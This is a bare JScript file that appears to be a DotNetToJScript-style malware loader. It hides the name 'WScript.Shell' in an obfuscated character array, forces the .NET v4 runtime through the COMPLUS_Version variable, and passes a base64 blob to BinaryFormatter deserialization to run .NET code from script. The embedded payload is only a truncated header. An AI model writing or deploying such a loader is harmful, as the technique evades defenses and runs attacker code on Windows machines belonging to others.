
var ak = [104,100,116,131,122,129,133,63,100,121,118,125,125]; function d(a,k){var r="";for(var i=0;i<a.length;i++){r+=String.fromCharCode((a[i]-k+256)%256);}return r;}
var sh = new ActiveXObject(d(ak,17)); var env = sh.Environment("Process"); env("COMPLUS_Version") = "v4.0.30319";
var fmt = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter");
var ms = new ActiveXObject("System.IO.MemoryStream"); 
var tr = new ActiveXObject("System.Security.Cryptography.FromBase64Transform");
var en = new ActiveXObject("System.Text.ASCIIEncoding");
var b64 = "AAEAAAD/////AQAAAAAAAAAEAQAAACJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVy";
var by = en.GetBytes_4(b64); by = tr.TransformFinalBlock(by, 0, by.length); ms.Write(by, 0, by.length); ms.Position = 0;
var de = fmt.Deserialize_2(ms); 
